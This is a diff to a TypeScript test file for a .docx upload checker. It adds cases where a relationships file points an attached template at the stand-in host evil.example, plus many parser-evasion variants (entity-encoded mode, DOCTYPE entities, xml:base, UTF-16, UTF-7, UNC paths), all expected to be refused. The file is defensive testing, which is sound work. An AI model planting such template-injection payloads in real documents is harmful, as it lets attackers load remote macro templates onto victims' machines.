@@ -91,6 +91,59 @@ test('a link to an address is no harm, nor a table within', async () => {
   expect(await refusal(docxWith({ name: 'word/embeddings/table.xlsx', content: 'x' }))).toBe('taken')
 })
 
+const TEMPLATE = `Type="${OFFICE}/attachedTemplate"`
+const outside = (text: string): Buffer => docxWith({ name: 'word/_rels/settings.xml.rels', content: text })
+const one = (attributes: string) => `<Relationships><Relationship Id="r" ${attributes}/></Relationships>`
+test.each<[string, Buffer]>([
+  ['names a link in its address', outside(one(`${TEMPLATE} Target="http://evil.example/relationships/hyperlink" TargetMode="External"`))],
+  ['closes its tag early', outside(one(`${TEMPLATE} Target="http://evil.example/>t.dotm" TargetMode="External"`))],
+  ['spells its mode by numbers', outside(one(`${TEMPLATE} Target="http://evil.example/t.dotm" TargetMode="Ext&#101;rnal"`))],
+  ['spells its mode small', outside(one(`${TEMPLATE} Target="http://evil.example/t.dotm" TargetMode="external"`))],
+  ['says no mode', outside(one(`${TEMPLATE} Target="http://evil.example/t.dotm"`))],
+  ['leads to another machine', outside(one(`${TEMPLATE} Target="\\\\evil.example\\t.dotm" TargetMode="Internal"`))],
+  ['says its kind twice', outside(one(`${TEMPLATE} Type="${OFFICE}/hyperlink" Target="http://evil.example" TargetMode="External"`))],
+  [
+    'says a kind like a link',
+    outside(one(`Type="http://evil.example/relationships/hyperlink" Target="http://evil.example" TargetMode="External"`)),
+  ],
+  [
+    'has a prefix',
+    outside(
+      `<a:Relationships xmlns:a="x"><a:Relationship Id="r" ${TEMPLATE} Target="http://evil.example" TargetMode="External"/></a:Relationships>`,
+    ),
+  ],
+  [
+    'has words of its own',
+    outside(`<!DOCTYPE a [<!ENTITY e "External">]>${one(`${TEMPLATE} Target="http://evil.example" TargetMode="&e;"`)}`),
+  ],
+  [
+    'has another base',
+    outside(`<Relationships xml:base="http://evil.example/"><Relationship Id="r" ${TEMPLATE} Target="t.dotm"/></Relationships>`),
+  ],
+  [
+    'is written in UTF-16',
+    docxWith({
+      name: 'word/_rels/settings.xml.rels',
+      content: Buffer.from(`\uFEFF${one(`${TEMPLATE} Target="http://evil.example" TargetMode="External"`)}`, 'utf16le'),
+    }),
+  ],
+  ['says another encoding', outside(`<?xml version="1.0" encoding="UTF-7"?>${one(`${TEMPLATE} Target="t.dotm"`)}`)],
+  ['is no list', outside('')],
+])('a document whose list of relationships %s is refused', async (_, bytes) => {
+  expect(await refusal(bytes)).toBe('file-harmful')
+})
+
+test('lists of relationships as programs write them are taken', async () => {
+  const NAMESPACE = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
+  for (const text of [
+    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships ${NAMESPACE}><Relationship Id="rId1" Type="${OFFICE}/styles" Target="styles.xml"/><Relationship Id="rId2" Type="${OFFICE}/hyperlink" Target="https://adilet.zan.kz/?a=1&amp;b=2" TargetMode="External"/></Relationships>`,
+    `\uFEFF<?xml version='1.0' encoding='utf-8'?>\n<Relationships ${NAMESPACE}>\n  <Relationship Type='${OFFICE}/image' Target='/word/media/a.png' Id='a' TargetMode='Internal'></Relationship>\n</Relationships>\n`,
+    `<Relationships ${NAMESPACE}/>`,
+    one(`Type="http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink" Target="mailto:a@example.org" TargetMode="External"`),
+  ])
+    expect(await refusal(outside(text)), text).toBe('taken')
+})
+
 const zeros = (n: number) => Buffer.alloc(n)
 /** One entry lies within the bytes of another, as in bombs of a few kilobytes. */
 function quoting(): Buffer {
